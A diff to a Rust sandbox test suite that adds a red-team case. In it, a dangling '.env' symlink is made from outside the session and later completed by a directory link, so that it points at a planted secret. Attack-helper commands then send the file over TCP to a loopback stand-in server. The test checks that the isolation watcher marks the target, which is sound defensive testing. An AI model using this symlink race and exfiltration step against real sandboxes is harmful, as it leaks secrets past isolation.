@@ -4540,19 +4540,19 @@ fn isolated_files_a_secret_named_link_made_outside_during_the_session_taints() {
         );
         return;
     }
-    for (k, how) in ["read", "held"].into_iter().enumerate() {
+    for (k, how) in ["read", "held", "dirlate"].into_iter().enumerate() {
         let ip = format!("127.77.41.{}", 50 + k);
         let server = Tcp::new(&ip, 443);
         let f = Fixture::new(&format!("iso-outside-link-{how}")).with_attack();
         std::fs::create_dir_all(f.ws.join("config")).unwrap();
         let target = f.ws.join("config/dev-settings");
-        let before = if how == "held" {
+        let before = if how != "read" {
             "draft-settings\n"
         } else {
             "SECRET-link-read-r5\n"
         };
         std::fs::write(&target, before).unwrap();
-        let script = if how == "held" {
+        let script = if how != "read" {
             format!("./attack tcp {ip} 443 PRE-TAINT-CHANNEL-OK; ./attack earlyhold fd config/dev-settings {ip} 443")
         } else {
             format!(
@@ -4572,7 +4572,15 @@ fn isolated_files_a_secret_named_link_made_outside_during_the_session_taints() {
         let held = f.ws.join("held").exists();
         if held {
             // The outside process: the link, then (held) the secret through it.
-            std::os::unix::fs::symlink("config/dev-settings", f.ws.join(".env")).unwrap();
+            if how == "dirlate" {
+                // Dangling first; a directory link completes it later (red team
+                // round 7, outside-link-completed-later).
+                std::os::unix::fs::symlink("cfg/dev-settings", f.ws.join(".env")).unwrap();
+                std::thread::sleep(Duration::from_millis(200));
+                std::os::unix::fs::symlink("config", f.ws.join("cfg")).unwrap();
+            } else {
+                std::os::unix::fs::symlink("config/dev-settings", f.ws.join(".env")).unwrap();
+            }
             let t = std::time::Instant::now();
             while !marked_by(pid, &target) && t.elapsed() < Duration::from_secs(30) {
                 std::thread::sleep(Duration::from_millis(1));
@@ -4585,14 +4593,14 @@ fn isolated_files_a_secret_named_link_made_outside_during_the_session_taints() {
                 marked_by(pid, &target),
                 "{how}: the watcher did not mark the link's target"
             );
-            if how == "held" {
+            if how != "read" {
                 std::thread::sleep(Duration::from_millis(300));
                 std::fs::write(f.ws.join(".env"), "SECRET-link-held-r5\n").unwrap();
             }
         }
         std::fs::write(f.ws.join("go"), "").unwrap();
         let o = wait_with_deadline(child, Duration::from_secs(120));
-        let read = if how == "held" {
+        let read = if how != "read" {
             "earlyhold read: 20"
         } else {
             "isoleak read: 20"
